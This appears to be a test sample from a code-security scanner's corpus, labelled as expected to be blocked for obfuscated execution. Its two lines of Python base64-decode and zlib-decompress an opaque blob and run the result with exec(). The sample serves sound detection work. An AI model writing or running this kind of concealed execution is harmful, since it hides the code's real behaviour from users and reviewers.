# expect: BLOCKED category: obfuscated_exec variant-of: risky/obfuscated_exec/b64_exec.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxTVnCtSE0uLUktVkhUSEosTjUz0U3NS85PSU1RKEiszMlPTNHjyswtyC8qgUpzcaUCdWhAOHpJZiYpqSDlGkqJ4YblScZeBp7ullXOuZZVPnl+psnGQTlJwel5ieGBed6B+bZKmpoAf7QlIg==')))
